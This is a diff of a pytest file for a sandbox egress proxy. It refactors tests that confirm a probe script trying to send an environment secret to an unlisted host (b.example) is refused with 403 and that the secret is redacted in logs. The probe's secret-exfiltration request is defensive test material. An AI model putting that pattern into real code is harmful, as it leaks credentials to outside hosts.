@@ -312,14 +312,20 @@ def test_there_is_no_way_out_but_to_the_listed_hosts(setups: Setups) -> None:
     } <= set(told)  # fmt: skip
 
 
-def test_a_secret_in_what_the_proxy_refused_is_not_shown(setups: Setups) -> None:
+def _telling_a_secret(
+    setups: Setups, *commands: str, network: tuple[str, ...] = ("a.example",)
+) -> Policy:
+    """Of a set-up whose probe puts its secret into a request that is refused."""
     (setups.workspace / "probe.py").write_text(
-        "import os, urllib.request\n"
-        "urllib.request.urlopen('http://b.example/' + os.environ['TOKEN'])\n"
+        "import os, urllib.error, urllib.request\n"
+        "try: urllib.request.urlopen('http://b.example/' + os.environ['TOKEN'])\n"
+        "except urllib.error.HTTPError as error: assert error.code == 403\n"
     )
-    policy = setups.policy(
-        "python3 probe.py", inputs=("probe.py",), network=("a.example",), secrets=("TOKEN",)
-    )
+    return setups.policy(*commands, inputs=("probe.py",), network=network, secrets=("TOKEN",))
+
+
+def test_a_secret_in_what_the_proxy_refused_is_not_shown(setups: Setups) -> None:
+    policy = _telling_a_secret(setups, "python3 probe.py", "exit 7")
     with pytest.raises(SetupFailed) as caught:
         setups.make(policy, {"TOKEN": SECRET})
     assert "  GET http://b.example/[TOKEN]" in str(caught.value).splitlines()
@@ -327,14 +333,7 @@ def test_a_secret_in_what_the_proxy_refused_is_not_shown(setups: Setups) -> None
 
 
 def test_what_the_proxy_refused_is_told_of_a_set_up_that_succeeds_too(setups: Setups) -> None:
-    (setups.workspace / "probe.py").write_text(
-        "import os, urllib.error, urllib.request\n"
-        "try: urllib.request.urlopen('http://b.example/' + os.environ['TOKEN'])\n"
-        "except urllib.error.HTTPError as error: assert error.code == 403\n"
-    )
-    policy = setups.policy(
-        "python3 probe.py", inputs=("probe.py",), network=("a.example",), secrets=("TOKEN",)
-    )
+    policy = _telling_a_secret(setups, "python3 probe.py")
     setups.make(policy, {"TOKEN": SECRET})
     assert "set-up:   GET http://b.example/[TOKEN]" in setups.told
     assert not any(SECRET in line for line in setups.told)
@@ -343,14 +342,7 @@ def test_what_the_proxy_refused_is_told_of_a_set_up_that_succeeds_too(setups: Se
 def test_a_secret_that_the_proxy_refused_reaches_no_set_up_beside_it(
     setups: Setups, engine: Engine
 ) -> None:
-    (setups.workspace / "probe.py").write_text(
-        "import os, urllib.error, urllib.request\n"
-        "try: urllib.request.urlopen('http://b.example/' + os.environ['TOKEN'])\n"
-        "except urllib.error.HTTPError as error: assert error.code == 403\n"
-    )
-    policy = setups.policy(
-        "python3 probe.py", inputs=("probe.py",), network=("beside.example",), secrets=("TOKEN",)
-    )
+    policy = _telling_a_secret(setups, "python3 probe.py", network=("beside.example",))
     beside = Setups(engine, setups.image, setups.policy(), setups.workspace)
     during = beside.on_progress
 
@@ -361,7 +353,7 @@ def test_a_secret_that_the_proxy_refused_reaches_no_set_up_beside_it(
 
     beside.on_progress = meanwhile
     try:
-        beside("echo '## begun'; sleep 3", network=("beside.example",))
+        beside("echo '## begun'", network=("beside.example",))
     finally:
         beside.end()
     assert any("[TOKEN]" in line for line in setups.told)
